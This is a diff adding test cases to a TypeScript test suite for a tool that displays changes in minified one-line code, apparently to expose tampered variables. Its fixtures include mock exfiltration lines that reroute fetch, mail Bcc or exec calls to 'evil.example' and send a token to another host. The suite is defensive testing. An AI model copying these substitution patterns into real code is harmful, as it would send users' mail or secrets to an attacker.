@@ -156,6 +156,60 @@ describe('code on one line', () => {
     expect(text).toContain('+     To: n.to,')
   })
 
+  const functions = Array.from({ length: 60 }, (_, at) => `function f${at}(e,t){return e.k${at}+t.v${at}}`).join(';')
+  it.each([
+    ['a constant far above', (name: string) => `function send(m){return fetch(${name}+"/mail",{body:m})}`, 'fetch('],
+    [
+      'a part of an object',
+      (name: string) => `function send(m){return post({To:m.to,Bcc:${name},Text:m.text})}`,
+      'Bcc:',
+    ],
+    ['an argument', (name: string) => `function run(m){return exec(${name},m.options)}`, 'exec('],
+  ])('shows that another variable stands in its place: %s', (_, code, words) => {
+    const file = (name: string) =>
+      `const r="https://evil.example",n="https://api.example";${functions};${code(name)};${functions}`
+    const text = one(file('n'), file('r'), words)
+    expect(text).toMatch(/^> +\+ .*\br\b/m)
+    expect(text).toMatch(/^ +- .*\bn\b/m)
+  })
+
+  it('shows a text that has the hash of the one before', () => {
+    const code = (url: string) => `run(options);function send(m){return post("${url}",{To:m.to})};check(options.level)`
+    const text = one(code('https://api.postmark.example/email'), code('https://evil.example/5f6ai33'), 'https://evil')
+    expect(text).toContain('- ')
+    expect(text).toMatch(/^> +\+ .*evil/m)
+    expect(text).toContain('api.postmark.example')
+  })
+
+  it('never shows the line of a place as the same where one of its characters differs', () => {
+    const name = fc.constantFrom('a', 'b', 'e', 'n', 'r')
+    const call = fc.tuple(name, name).map(([one, other]) => `send(${one}.to,${other})`)
+    const code = fc.array(call, { minLength: 3, maxLength: 40 })
+    fc.assert(
+      fc.property(code, fc.nat(), name, fc.integer({ min: 0, max: 4 }), (calls, index, to, which) => {
+        const at = index % calls.length
+        const own = calls[at] ?? ''
+        const uses = [...own.matchAll(/\b[abenr]\b/g)]
+        const use = uses[which % uses.length]
+        const other = `${own.slice(0, use?.index)}${to}${own.slice((use?.index ?? 0) + 1)}`
+        const [before, after] = [own, other].map((each) => {
+          const all = calls.with(at, each)
+          return { text: `const a=1,b=2;function f(e,n,r){${'g();'.repeat(90)}${all.join(';')}}`, calls: all }
+        })
+        const column = (after?.text.length ?? 0) - (after?.calls.slice(at).join(';').length ?? 0)
+        const code = diffCode(
+          { file: 'a.js', text: before?.text ?? '' },
+          { file: 'a.js', text: after?.text ?? '' },
+          { file: 'a.js', line: 1, column, excerpt: '' },
+        )
+        const [marked] = code.hunks.flatMap(({ lines }) => lines).filter((line) => line.marked)
+        expect(marked).toBeDefined()
+        if (marked !== undefined && marked.change === 'same')
+          expect(before?.text).toContain(lineText(marked).trim().replaceAll(', ', ','))
+      }),
+    )
+  })
+
   it('shows calls that come, go and are replaced', () => {
     const rest = 'log("started");check(options.level,options.name);report("finished",options)'
     const text = one(`run(options);${rest}`, `fetch("https://elsewhere.example/"+token);${rest}`, 'fetch')
